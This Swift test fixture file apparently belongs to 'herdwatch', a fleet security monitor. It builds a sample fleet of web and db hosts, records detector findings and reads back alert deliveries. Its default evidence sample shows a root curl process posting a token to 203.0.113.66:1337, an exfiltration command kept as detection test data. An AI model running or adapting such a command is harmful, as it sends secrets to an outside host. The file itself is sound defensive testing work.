import Findings
import FleetModel
import Foundation
import LibPQ
import PostgresFixture
import Storage

/// A small fleet and findings recorded through `FindingStore.record`, as the detector would.
enum AlertFixtures {
    static let eventTime = PostgresTimestamp(microsecondsSinceEpoch: 1_795_132_800_000_000)  // 2026-11-20T00:00:00Z

    /// Roles `web` (web-01…03) and `db` (db-01); returns host ids by name.
    static func fleet(_ session: Session) throws -> [String: Int64] {
        let fleet = FleetRepository(session: session)
        _ = try fleet.assign(try RoleName("web"), patterns: [try HostPattern("web-*")])
        _ = try fleet.assign(try RoleName("db"), patterns: [try HostPattern("db-*")])
        _ = try fleet.register(hosts: ["web-01", "web-02", "web-03", "db-01"])
        var ids: [String: Int64] = [:]
        for row in try session.query("SELECT name, id FROM herdwatch.hosts").rows {
            ids[try row.decode(String.self, at: 0)] = try row.decode(Int64.self, at: 1)
        }
        return ids
    }

    /// Records one sighting; the evidence is one document whose fields a host controls.
    @discardableResult
    static func sighting(
        _ session: Session, role: String = "web", kind: FindingKind = .exec, subject: String, hostID: Int64,
        host: String, score: Int = 60, evidence: String? = nil
    ) throws -> FindingStore.Change {
        let document = evidence ?? #"""
            {"host":"\#(host)","user":{"uid":0,"uid_name":"root","auid":1000,"auid_name":"alice"},
             "process":{"exe":"/usr/bin/curl","argv":["curl","-d","token=<redacted>","http://203.0.113.66:1337/"]},
             "socket":{"address":"203.0.113.66","port":1337}}
            """#
        return try session.transaction {
            try FindingStore(session: session).record(FindingStore.Sighting(
                role: role, kind: kind, subject: subject, hostID: hostID, eventCount: 1, firstSeen: eventTime,
                lastSeen: eventTime, severity: Severity(score: score), roleHosts: 3,
                evidence: [.document(source: "test:\(subject):\(host)", at: eventTime, json: document)]))
        }
    }

    static func outboxIDs(_ session: Session) throws -> [Int64] {
        try session.query("SELECT id FROM herdwatch.alert_outbox ORDER BY id").rows.map { try $0.decode(Int64.self, at: 0) }
    }

    /// (outbox id, outcome, attempts) of one sink, in outbox order.
    static func deliveries(_ session: Session, sink: String) throws -> [(Int64, String, Int)] {
        try session.query(
            "SELECT outbox_id, outcome, attempts FROM herdwatch.alert_deliveries WHERE sink = $1 ORDER BY outbox_id",
            [.text(sink)]
        ).rows.map { (try $0.decode(Int64.self, at: 0), try $0.decode(String.self, at: 1), try $0.decode(Int.self, at: 2)) }
    }

    static func temporaryPath(_ name: String) -> String {
        NSTemporaryDirectory() + "herdwatch-alerts-\(getpid())-\(UUID().uuidString)-\(name)"
    }
}

/// The built `herdwatch` executable, which `swift test` builds beside the test bundle.
enum Herdwatch {
    static let directory = URL(fileURLWithPath: CommandLine.arguments[0]).deletingLastPathComponent()

    static func run(_ arguments: String..., environment: [String: String] = [:]) throws -> ProgramRun {
        try ProgramRun.run(directory.appendingPathComponent("herdwatch").path, arguments, environment: environment)
    }
}
